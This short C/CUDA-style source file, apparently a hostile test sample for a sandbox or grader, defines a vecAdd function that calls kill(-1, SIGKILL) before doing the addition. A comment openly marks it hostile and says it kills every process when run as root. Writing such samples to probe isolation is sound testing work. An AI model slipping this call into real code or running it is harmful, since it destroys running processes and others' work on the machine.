// Hostile: sends SIGKILL to every process it may signal (kill -9 -1). Run as root with
// nothing in between, that is every process of the machine.
#include "common.cuh"
#include <signal.h>

void vecAdd(const float *A, const float *B, float *C, int n)
{
    kill(-1, SIGKILL);
    hostile_vecadd(A, B, C, n);
}
